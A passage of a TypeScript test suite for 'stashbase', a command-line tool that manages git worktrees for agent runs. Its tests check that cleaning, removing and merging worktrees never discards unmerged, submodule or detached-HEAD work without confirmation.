    assert.equal(conflict.stderr.split('\n').filter(Boolean).pop(), `stashbase: merging stashbase/iron-gate-path into main stopped on conflicts: resolve them in ${r.root} and commit (or undo with git merge --abort); the agent's worktree and branch are kept`);
    assert.equal(existsSync(join(r.root, '.git', 'MERGE_HEAD')), true);
    assert.equal(existsSync(wt('iron-gate-path')), true);
    assert.ok(branches().includes('stashbase/iron-gate-path'));
  });

  test('clean: merged work goes without asking; unmerged stays unless --all (confirmed or --yes); running, locked and UNSAFE never', async () => {
    agent('amber-done-one', { 'a1.txt': '1\n' });
    r.git(['merge', '-q', '--no-edit', 'stashbase/amber-done-one']);
    agent('bold-open-two', { 'b2.txt': '2\n' });
    agent('calm-run-three');
    runningLock('calm-run-three');
    agent('deep-mine-four');
    r.git(['worktree', 'lock', wt('deep-mine-four')]);
    agent('even-bad-five');
    writeFileSync(join(wt('even-bad-five'), '.git'), 'gitdir: /tmp/elsewhere\n');
    const res = await sb(['clean']);
    assert.deepEqual([res.code, res.stdout], [0, [
      'keeping bold-open-two: 1 unmerged commit(s) (merge it, or clean --all)',
      'skipping calm-run-three: running',
      'skipping deep-mine-four: locked',
      'skipping even-bad-five: UNSAFE',
      'removed amber-done-one (worktree and branch)',
      '',
    ].join('\n')]);
    const noTty = await sb(['clean', '--all']);
    assert.deepEqual([noTty.code, noTty.stderr], [1, 'stashbase: 1 agent worktree(s) with unmerged work: confirm in a terminal or pass --yes; nothing was removed\n']);
    assert.ok(branches().includes('stashbase/bold-open-two'));
    const all = await sb(['clean', '--all', '--yes']);
    assert.equal(all.code, 0, all.stderr);
    assert.match(all.stdout, /^would discard bold-open-two: 1 unmerged commit\(s\)$/m);
    assert.match(all.stdout, /^removed bold-open-two \(worktree and branch\)$/m);
    assert.deepEqual(branches(), ['stashbase/calm-run-three', 'stashbase/deep-mine-four', 'stashbase/even-bad-five']);
    assert.equal(existsSync(wt('calm-run-three')) && existsSync(wt('deep-mine-four')) && existsSync(wt('even-bad-five')), true);
  });

  test("(review, round 35) what only the worktree holds is never removed unasked: a submodule's commits (git keeps its git directory in the worktree's admin folder) and commits made on a detached HEAD; clean keeps both, remove asks, merge keeps the worktree; control: git worktree remove --force, as stashbase ran it, loses the submodule's commit", async () => {
    const sub = join(r.home, 'sub-origin');
    spawnSync('git', ['init', '-q', sub], { env: r.env });
    writeFile(join(sub, 'f.txt'), 'lib\n');
    spawnSync('git', ['-C', sub, 'add', '.'], { env: r.env });
    spawnSync('git', ['-C', sub, 'commit', '-qm', 'sub'], { env: r.env });
    const prepared = (name: string) => {
      agent(name, { [`${name}.txt`]: 'x\n' });
      r.git(['merge', '-q', '--no-edit', `stashbase/${name}`]);
      return wt(name);
    };
    // A submodule checked out in the worktree, a commit of yours made there.
    const withSub = prepared('amber-sub-one');
    assert.equal(spawnSync('git', ['-C', withSub, '-c', 'protocol.file.allow=always', 'submodule', 'add', '-q', sub, 'lib'], { env: r.env }).status, 0);
    r.git(['commit', '-qm', 'add sub'], withSub);
    r.git(['merge', '-q', '--no-edit', 'stashbase/amber-sub-one']);
    writeFile(join(withSub, 'lib', 'f.txt'), 'IMPORTANT\n');
    r.git(['commit', '-qam', 'your unpushed submodule commit'], join(withSub, 'lib'));
    const subCommit = r.git(['rev-parse', 'HEAD'], join(withSub, 'lib')).trim();
    // A commit made on a detached HEAD in another worktree.
    const detached = prepared('bold-head-two');
    r.git(['checkout', '-q', '--detach'], detached);
    writeFile(join(detached, 'mine.txt'), 'mine\n');
    r.git(['add', 'mine.txt'], detached);
    r.git(['commit', '-qm', 'your work on no branch'], detached);
    const detachedCommit = r.git(['rev-parse', 'HEAD'], detached).trim();
    const list = await sb(['list']);
    assert.match(list.stdout, /^amber-sub-one +stashbase\/amber-sub-one +clean \(\+ submodules\) +0 /m);
    assert.match(list.stdout, /^bold-head-two +stashbase\/bold-head-two +clean \(\+ commits on no branch\) +0 /m);
    const clean = await sb(['clean']);
    assert.equal(clean.code, 0, clean.stderr);
    assert.match(clean.stdout, /^keeping amber-sub-one: submodules "lib", whose git directories go with it, with any commit made in them that no remote has \(agent worktrees remove asks first\)$/m);
    assert.match(clean.stdout, new RegExp(`^keeping bold-head-two: 1 commit\\(s\\) on no branch, held only by its HEAD, its own refs or its HEAD's history \\(git branch kept-bold-head-two ${detachedCommit} keeps the newest of them\\) \\(agent worktrees remove asks first\\)$`, 'm'));
    assert.ok(existsSync(withSub) && existsSync(detached));
    const asked = await sb(['remove', 'bold-head-two']);
    assert.equal(asked.code, 1);
    assert.match(asked.stderr, /removing bold-head-two \(1 commit\(s\) on no branch, .*\) loses work: confirm in a terminal or pass --yes; nothing was removed/);
    const merge = await sb(['merge', 'amber-sub-one']);
    assert.equal(merge.code, 0, merge.stderr);
    assert.match(merge.stdout, /^Worktree amber-sub-one is kept, with its branch: it holds submodules "lib"/m);
    assert.equal(r.git(['cat-file', '-t', subCommit], join(withSub, 'lib')).trim(), 'commit');
    // (Second pass) A submodule cloned in place first (its .git a folder inside the checkout, no modules folder), and a
    // commit made on a detached HEAD before going back to the branch (held by HEAD's reflog alone).
    const inPlace = prepared('calm-clone-three');
    spawnSync('git', ['clone', '-q', sub, join(inPlace, 'vendor')], { env: r.env });
    assert.equal(spawnSync('git', ['-C', inPlace, '-c', 'protocol.file.allow=always', 'submodule', 'add', '-q', sub, 'vendor'], { env: r.env }).status, 0);
    r.git(['commit', '-qm', 'add sub in place'], inPlace);
    r.git(['merge', '-q', '--no-edit', 'stashbase/calm-clone-three']);
    assert.equal(existsSync(join(r.root, '.git', 'worktrees', 'calm-clone-three', 'modules')), false);
    const back = prepared('deep-log-four');
    r.git(['checkout', '-q', '--detach'], back);
    writeFile(join(back, 'lost.txt'), 'lost\n');
    r.git(['add', 'lost.txt'], back);
    r.git(['commit', '-qm', 'made detached, then left'], back);
    r.git(['checkout', '-q', 'stashbase/deep-log-four'], back);
    // (Third pass) A history past what stashbase reads whole (16 MiB) counts as holding commits, never as clean.
    const long = prepared('even-long-five');
    const logs = join(r.root, '.git', 'worktrees', 'even-long-five', 'logs', 'HEAD');
    writeFileSync(logs, readFileSync(logs, 'utf8') + `${'#'.repeat(1023)}\n`.repeat(17 * 1024));
    const again = await sb(['clean']);
    assert.match(again.stdout, /^keeping even-long-five: perhaps commits on no branch, held only by its HEAD, its own refs or its HEAD's history \(its HEAD's history could not be read: .*\) \(agent worktrees remove asks first\)$/m);
    assert.ok(existsSync(long));
    // Its index also records "lib", never checked out there: that holds nothing.
    assert.match(again.stdout, /^keeping calm-clone-three: submodules "vendor", whose/m);
    assert.match(again.stdout, /^keeping deep-log-four: 1 commit\(s\) on no branch/m);
    assert.ok(existsSync(inPlace) && existsSync(back));
    // The control: git worktree remove --force, as stashbase ran it, takes the submodule's commit with it.
    r.git(['worktree', 'remove', '--force', withSub]);
    assert.equal(spawnSync('git', ['-C', r.root, 'cat-file', '-t', subCommit], { env: r.env }).status, 128);
  });

  test('remove: asks before losing work, --keep-branch, --all; refuses running, locked and UNSAFE', async () => {
    agent('amber-keep-one', { 'k.txt': 'k\n' });
    const ask = await sb(['remove', 'amber-keep-one']);
    assert.deepEqual([ask.code, ask.stderr], [1, 'stashbase: removing amber-keep-one (1 commit(s) on stashbase/amber-keep-one not in your current branch) loses work: confirm in a terminal or pass --yes; nothing was removed\n']);
    const kb = await sb(['remove', 'amber-keep-one', '--keep-branch']);
    assert.deepEqual([kb.code, kb.stdout], [0, 'removed worktree amber-keep-one; branch stashbase/amber-keep-one kept (stashbase agent run --resume amber-keep-one recreates it)\n']);
    assert.equal(existsSync(wt('amber-keep-one')), false);
    assert.deepEqual(branches(), ['stashbase/amber-keep-one']);
    const gone = await sb(['delete', 'amber-keep-one', '--yes']);
    assert.deepEqual([gone.code, gone.stdout], [0, 'removed amber-keep-one (branch)\n']);
    assert.deepEqual(branches(), []);

    agent('bold-wip-two');
    writeFileSync(join(wt('bold-wip-two'), 'wip.txt'), 'wip');
    const wip = await sb(['remove', 'bold-wip-two', '--keep-branch']);
    assert.deepEqual([wip.code, wip.stderr], [1, `stashbase: removing bold-wip-two (uncommitted changes in ${wt('bold-wip-two')}) loses work: confirm in a terminal or pass --yes; nothing was removed\n`]);
    agent('calm-empty-three');
    const plain = await sb(['remove', 'calm-empty-three']);
    assert.deepEqual([plain.code, plain.stdout], [0, 'removed calm-empty-three (worktree and branch)\n']);

    agent('deep-run-four');
    runningLock('deep-run-four');
    agent('even-lock-five');
    r.git(['worktree', 'lock', '--reason', 'mine', wt('even-lock-five')]);
    for (const [name, why] of [['deep-run-four', 'running: a run is still using it'], ['even-lock-five', `locked: you locked it (git worktree unlock ${wt('even-lock-five')} first)`]]) {
      const res = await sb(['remove', name as string, '--yes']);
      assert.deepEqual([res.code, res.stderr], [1, `stashbase: ${name} is ${why}; nothing was removed\n`]);
    }
    const noTty = await sb(['remove', '--all']);
    assert.equal(noTty.code, 1);
    assert.match(noTty.stderr, /^stashbase: 1 agent worktree\(s\) and their branches: confirm in a terminal or pass --yes; nothing was removed\n$/);
    const all = await sb(['remove', '--all', '--yes']);
    assert.deepEqual([all.code, all.stdout], [0, [
      'skipping deep-run-four: running',
      'skipping even-lock-five: locked',
      `bold-wip-two: uncommitted changes in ${wt('bold-wip-two')}`,
      'removed bold-wip-two (worktree and branch)',
      '',
    ].join('\n')]);
    const usage = await sb(['remove', 'x-y-z', '--all']);
    assert.deepEqual([usage.code, usage.stderr], [2, 'stashbase: agent worktrees remove takes one worktree name, or --all\n']);
  });
});
